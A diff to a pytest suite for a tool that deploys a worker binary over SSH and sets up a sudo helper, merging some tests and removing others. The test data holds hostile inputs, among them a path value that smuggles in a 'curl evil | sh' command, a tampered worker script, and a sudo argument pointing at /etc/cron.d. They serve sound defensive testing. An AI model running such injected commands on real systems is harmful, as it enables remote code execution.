@@ -47,22 +47,7 @@ BOOT_ID = "/proc/sys/kernel/random/boot_id"
 BUILT = deploy.PACKAGE / f"worker-{platform.machine()}"
 DIGEST = hashlib.sha256(BUILT.read_bytes()).hexdigest() if BUILT.exists() else ""
 ELSEWHERE = ("/var/tmp", "/tmp", "/dev/shm")
-TOOLS = [
-    "sh",
-    "dd",
-    "head",
-    "cat",
-    "uname",
-    "id",
-    "mkdir",
-    "chmod",
-    "mv",
-    "rm",
-    "sha256sum",
-    "ls",
-    "tail",
-    "grep",
-]
+TOOLS = "sh dd head cat uname id mkdir chmod mv rm sha256sum ls tail grep".split()
 
 
 def mounted(options: str, *places: str) -> str:
@@ -119,24 +104,18 @@ def test_a_worker_is_copied_once_per_content(bed: Bed, tmp_path: Path) -> None:
     assert len(list(cache(server).iterdir())) == 2
 
 
-@pytest.mark.parametrize("damage", [b"\x7fELF, once", b""], ids=["broken", "empty"])
-def test_a_damaged_copy_is_replaced(bed: Bed, damage: bytes) -> None:
+@pytest.mark.parametrize("damage", ["\x7fELF, once", "", "#!/bin/sh\ntouch $HOME/was-here\n"])
+def test_a_damaged_copy_is_replaced_and_not_run(bed: Bed, damage: str) -> None:
     server, channel = bed.host()
     works(channel).close()
     (kept,) = cache(server).iterdir()
-    kept.write_bytes(damage)
-    works(channel).close()
+    kept.write_text(damage)
+    worker = works(channel)
     assert kept.read_bytes() == BUILT.read_bytes()
-
-
-def test_a_copy_that_does_something_else_is_not_run(bed: Bed) -> None:
-    server, channel = bed.host()
-    cache(server).mkdir(parents=True)
-    fake = cache(server) / f"worker-{DIGEST}"
-    fake.write_text("#!/bin/sh\ntouch $HOME/was-here\n")
-    fake.chmod(0o755)
-    works(channel).close()
     assert not (server.home / "was-here").exists()
+    worker.operate("exec", ["touch", f"{server.home}/made"])
+    assert (server.home / "made").stat().st_mode & 0o777 == 0o644, "the user's own mode"
+    worker.close()
 
 
 def test_only_a_few_old_workers_are_kept(bed: Bed) -> None:
@@ -157,14 +136,6 @@ def test_only_a_few_old_workers_are_kept(bed: Bed) -> None:
         f"worker-{DIGEST}"[:12],
         "a file of th",
     }
-
-
-def test_files_that_the_worker_makes_have_the_users_mode(bed: Bed) -> None:
-    server, channel = bed.host()
-    worker = works(channel)
-    worker.operate("exec", ["touch", f"{server.home}/made"])
-    assert (server.home / "made").stat().st_mode & 0o777 == 0o644
-    worker.close()
 
 
 # --- hosts that have little
@@ -201,10 +172,10 @@ def test_busybox_and_an_ordinary_user_are_enough(bed: Bed, tmp_path: Path) -> No
     assert (server.home / "copy").read_bytes() == BUILT.read_bytes()
 
 
-@pytest.mark.parametrize("tool", ["sha256sum", "head"])
+@pytest.mark.parametrize("tool", ["sha256sum", "head", "sudo"])
 def test_a_tool_that_is_missing_is_named(bed: Bed, tmp_path: Path, tool: str) -> None:
-    _, channel = bed.host(sshd=poor(tmp_path, tool))
-    assert f"the host has no `{tool}`" in refusal(channel)
+    _, channel = bed.host(user="bench" if tool == "sudo" else "root", sshd=poor(tmp_path, tool))
+    assert f"the host has no `{tool}`" in refusal(channel, helper=tool == "sudo")
 
 
 # --- folders that do not do
@@ -231,12 +202,6 @@ def test_a_home_that_does_not_do_is_passed_over(bed: Bed, setup: str) -> None:
     again = works(channel)
     assert program(again).parent == Path(f"/var/tmp/netbench-{UID}")
     again.close()
-
-
-def test_a_cache_folder_of_the_users_choice(bed: Bed, tmp_path: Path) -> None:
-    _, channel = bed.host(sshd=f"SetEnv XDG_CACHE_HOME={tmp_path}/caches")
-    works(channel).close()
-    assert list((tmp_path / "caches" / "netbench").iterdir())
 
 
 def test_a_home_with_a_name_that_shells_read(bed: Bed) -> None:
@@ -582,7 +547,10 @@ def test_sudo_starts_nothing_that_others_than_root_could_change(
 @pytest.mark.parametrize(
     "answer",
     [
-        ["others", "/usr/local;curl${IFS}evil|sh;true", "drwxrwxr-x", "2", "1000"],
+        *(
+            ["others", path, "drwxrwxr-x", "2", "1000"]
+            for path in ("/usr/local;curl${IFS}evil|sh;true", "/home/victim", f"{deploy.PLACE}/x")
+        ),
         *(["sudo", name, "/home/a/.cache/netbench/worker-1"] for name in ("ALL", "%users", "a=b")),
         ["sudo", "bench", "-t/etc/cron.d", "/home/a/.cache/netbench/worker-1"],
     ],
@@ -611,11 +579,6 @@ def test_where_sudo_allows_everything_the_helper_is_installed(
     assert caplog.messages == [said] * 4
 
 
-def test_root_needs_no_sudo(bed: Bed, tmp_path: Path) -> None:
-    _, channel = bed.host(sshd=poor(tmp_path))
-    works(channel, helper=True).close()
-
-
 def test_users_without_root_learn_which_cells_need_it_and_what_else_is_wrong(
     bed: Bed, tmp_path: Path
 ) -> None:
@@ -640,8 +603,3 @@ def test_users_without_root_learn_which_cells_need_it_and_what_else_is_wrong(
     assert "install -D -o root -g root" in said[2]
     assert "NOPASSWD" in said[3]
     assert len(said) == 4
-
-
-def test_a_host_without_sudo_is_named(bed: Bed, tmp_path: Path) -> None:
-    _, channel = bed.host(user="bench", sshd=poor(tmp_path))
-    assert "the host has no `sudo`; connect as root" in refusal(channel, helper=True)
